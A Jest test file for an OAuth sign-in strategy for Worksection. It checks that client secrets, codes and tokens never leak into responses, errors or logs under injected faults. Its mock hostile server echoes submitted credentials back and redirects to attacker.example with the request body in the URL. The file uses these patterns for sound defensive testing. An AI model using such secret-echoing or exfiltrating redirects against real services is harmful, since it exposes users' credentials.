import type { Response } from 'supertest';
import { createEmulator, type Emulator, type Fault } from 'worksection-emulator';
import { Strategy, type StrategyOptions } from '../../src';
import { startHostileServer, type HostileServer } from '../helpers/hostile-server';
import { authorizeAtEmulator, CALLBACK_URL, createStrategyApp, type StrategyApp } from '../helpers/strategy-app';

const SECRET = 'SECRET-MARKER-5d1c0b9e-client-secret';
const WRONG_SECRET = 'SECRET-MARKER-wrong-2a7f';
// What a leak of a code, a refresh token or an access token looks like (Worksection: def50200… and JWTs).
const TOKEN_SHAPES = [/def50200/i, /eyJ[A-Za-z0-9_-]{10,}/];

let emu: Emulator;
let hostile: HostileServer;
const seen: string[] = [];
const known: string[] = [];
let consoleSpies: jest.SpyInstance[];

function strategy(extra: Partial<StrategyOptions> = {}): Strategy {
  return new Strategy(
    {
      clientID: 'marker-client',
      clientSecret: SECRET,
      callbackURL: CALLBACK_URL,
      baseURL: emu.url,
      scope: 'projects_read',
      timeout: 300,
      ...extra,
    },
    (accessToken, refreshToken, _params, profile, done) => {
      known.push(accessToken, refreshToken);
      done(null, { id: profile.id, accountUrl: profile.accountUrl });
    },
  );
}

function record(res: Response): void {
  seen.push(`${res.status} ${JSON.stringify(res.headers)} ${res.text}`);
}

function recordError(err: unknown): void {
  const e = err as Error;
  seen.push(e.message, String(e), JSON.stringify(e), e.stack ?? '');
}

/** Runs one sign-in to the callback, recording every response of the app and every error it produced. */
async function signIn(app: StrategyApp): Promise<void> {
  const agent = app.agent();
  const start = await agent.get('/auth/worksection');
  record(start);
  const { path, code } = await authorizeAtEmulator(agent);
  known.push(code);
  const callback = await agent.get(path);
  record(callback);
  if (callback.headers.location) record(await agent.get(callback.headers.location));
  record(await agent.get('/me'));
  app.errors.forEach(recordError);
}

beforeAll(async () => {
  emu = await createEmulator({
    autoApprove: true,
    clients: [{ clientId: 'marker-client', clientSecret: SECRET, redirectUris: [CALLBACK_URL] }],
  });
  // A hostile Worksection that echoes what it was sent into every place an answer can carry text.
  hostile = await startHostileServer((req, res) => {
    const form = new URLSearchParams(req.body);
    const echo = [...form.values()].join(' ');
    if (req.url.endsWith('/echo-error')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      return res.end(JSON.stringify({ error: 'invalid_client', errorDescription: `bad credentials ${echo}`, hint: echo }));
    }
    if (req.url.endsWith('/echo-html')) {
      res.writeHead(502, { 'content-type': 'text/html' });
      return res.end(`<html>${echo}</html>`);
    }
    if (req.url.endsWith('/echo-redirect')) {
      res.writeHead(302, { location: `https://attacker.example/?${req.body}` });
      return res.end();
    }
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(`{"access_token":"${echo}`);
  });
  consoleSpies = (['log', 'info', 'warn', 'error', 'debug'] as const).map((method) =>
    jest.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      seen.push(args.map((a) => (a instanceof Error ? `${a.stack} ${JSON.stringify(a)}` : String(a))).join(' '));
    }),
  );

  await signIn(createStrategyApp(strategy()));
  const faults: Fault[] = [
    { type: 'truncate' },
    { type: 'reset' },
    { type: 'hang' },
    { type: 'oversized' },
    { type: 'respond', status: 502, body: `<html>${SECRET}</html>`, headers: { 'content-type': 'text/html' } },
  ];
  for (const fault of faults) {
    for (const endpoint of ['token', 'resource'] as const) {
      emu.faults.set(endpoint, fault);
      await signIn(createStrategyApp(strategy()));
      emu.faults.clear();
    }
  }
  await signIn(createStrategyApp(strategy({ clientSecret: WRONG_SECRET })));
  for (const path of ['/echo-error', '/echo-html', '/echo-redirect', '/echo-truncated']) {
    await signIn(createStrategyApp(strategy({ tokenURL: `${hostile.url}${path}` })));
    await signIn(createStrategyApp(strategy({ profileURL: `${hostile.url}${path}` })));
  }

  // A reused code, and refreshes that fail in every way.
  const reuse = createStrategyApp(strategy());
  const first = reuse.agent();
  const { code } = await authorizeAtEmulator(first);
  const { state } = await authorizeAtEmulator(first);
  record(await first.get(`/auth/worksection/callback?code=${code}&state=${state}`));
  const second = reuse.agent();
  const again = await authorizeAtEmulator(second);
  const failed = await second.get(`/auth/worksection/callback?code=${code}&state=${again.state}`);
  record(failed);
  record(await second.get('/login'));
  reuse.errors.forEach(recordError);

  const refresher = strategy();
  const refreshToken = known[1] as string;
  for (const fault of [undefined, { type: 'truncate' }, { type: 'hang' }, { type: 'reset' }] as Array<Fault | undefined>) {
    if (fault) emu.faults.set('refresh', fault);
    await refresher.refresh(`def50200${SECRET}`).catch(recordError);
    await refresher.refresh(refreshToken).then((tokens) => known.push(tokens.accessToken, tokens.refreshToken), recordError);
    emu.faults.clear();
  }
  await strategy({ refreshURL: `${hostile.url}/echo-error` })
    .refresh(refreshToken)
    .catch(recordError);
}, 60_000);

afterAll(async () => {
  consoleSpies.forEach((spy) => spy.mockRestore());
  await hostile.close();
  await emu.close();
});

describe('secrets in the hostile cases', () => {
  it('recorded responses and errors from every case', () => {
    expect(seen.length).toBeGreaterThan(100);
    expect(known.filter(Boolean).length).toBeGreaterThan(5);
    expect(seen.some((text) => text.includes('WORKSECTION_TIMEOUT'))).toBe(true);
    expect(seen.some((text) => text.includes('invalid_client'))).toBe(true);
  });

  it('never show the client secret in a redirect, a page, an error or a log line', () => {
    for (const text of seen) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain(WRONG_SECRET);
      expect(text).not.toContain('SECRET-MARKER');
    }
  });

  it('never show a code or a token in a redirect, a page, an error or a log line', () => {
    for (const text of seen) {
      for (const value of known) if (value) expect(text).not.toContain(value);
      for (const shape of TOKEN_SHAPES) expect(text).not.toMatch(shape);
    }
  });

  it('never put the client secret in a URL sent to Worksection', () => {
    expect(hostile.requests.length).toBeGreaterThan(5);
    for (const request of hostile.requests) expect(request.url).not.toContain('SECRET-MARKER');
  });
});
